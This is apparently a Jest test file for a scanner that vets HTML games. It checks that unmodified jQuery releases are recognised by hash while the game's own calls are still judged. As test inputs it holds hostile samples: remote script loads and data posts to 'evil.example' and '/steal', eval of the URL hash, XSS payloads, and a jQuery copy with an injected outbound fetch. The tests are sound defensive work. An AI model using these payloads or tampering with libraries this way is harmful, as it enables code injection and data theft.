// Unmodified library releases are recognised by hash and not judged line by line; the game's
// own calls into them are, and a copy changed by one character is scanned like any code.
import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { staticScan } from '../../../game/scan/index.ts';
import { knownLibrary, libraryText } from '../../../game/scan/rules/known-libraries.ts';

const fixture = readFileSync(join(import.meta.dirname, '../../fixtures/games/benign/jquery-1.12.4-whack.html'), 'utf8');
const jquery = /<script>([\s\S]*?)<\/script>/.exec(fixture)![1]!;

const page = (library: string, game: string): string => `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>t</title><script>${library}</script></head><body><canvas id="c"></canvas><div id="a"></div><script>
const c = document.getElementById('c').getContext('2d');
$(document).keydown(function () { c.fillRect(0, 0, 1, 1); });
requestAnimationFrame(function f() { requestAnimationFrame(f); });
${game}
</script></body></html>`;

const rules = (html: string): string[] =>
  staticScan(html).findings.filter((f) => f.severity !== 'info').map((f) => `${f.rule}:${f.severity}`);

describe('known library releases', () => {
  it('recognises an unmodified jQuery, whatever its line ends and source-map comment', () => {
    expect(knownLibrary(jquery)).toBe('jQuery 1.12.4 (minified)');
    expect(knownLibrary(`\n${jquery.replace(/\n/g, '\r\n')}\n//# sourceMappingURL=jquery.min.map\n`))
      .toBe('jQuery 1.12.4 (minified)');
    expect(libraryText('a\r\nb\n//# sourceMappingURL=x.map')).toBe('a\nb');
  });

  it('does not check a known release line by line, and says so', () => {
    const findings = staticScan(page(jquery, "$('#a').text('ready');")).findings;
    expect(findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(findings.map((f) => f.rule)).toContain('library.known-release');
  });

  it.each([
    ["$.getScript('https://evil.example/x.js')", 'network.xhr:block'],
    ["$.ajax({ url: '/steal', data: document.title })", 'network.xhr:block'],
    ["jQuery.post('/x', { a: 1 })", 'network.xhr:block'],
    ["$('#a').load('https://evil.example/page')", 'network.xhr:block'],
    ['$.globalEval(location.hash.slice(1))', 'dynamic-code.eval:block'],
    ["$('<img src=x onerror=alert(1)>').appendTo('#a')", 'dom.script-injection:block'],
    ["$('#a').html('<script>alert(1)<\\/script>')", 'dom.script-injection:block'],
  ])('judges the game\'s own call %s', (game, rule) => {
    expect(rules(page(jquery, game))).toContain(rule);
  });

  it('keeps ordinary jQuery calls quiet: events, text, classes, the .load(handler) alias', () => {
    expect(rules(page(jquery, "$('#a').addClass('x').text('5').css('color', 'red'); $(window).load(function(){});")))
      .toEqual([]);
  });

  it('scans a copy changed by one character like any other code', () => {
    const changed = jquery.replace('return this.pushStack(', "fetch('https://evil.example/');return this.pushStack(");
    expect(changed).not.toBe(jquery);
    expect(knownLibrary(changed)).toBeUndefined();
    const findings = staticScan(page(changed, '')).findings;
    expect(findings.map((f) => f.rule)).not.toContain('library.known-release');
    expect(findings.some((f) => f.rule === 'network.fetch' && f.severity === 'block')).toBe(true);
  });
});
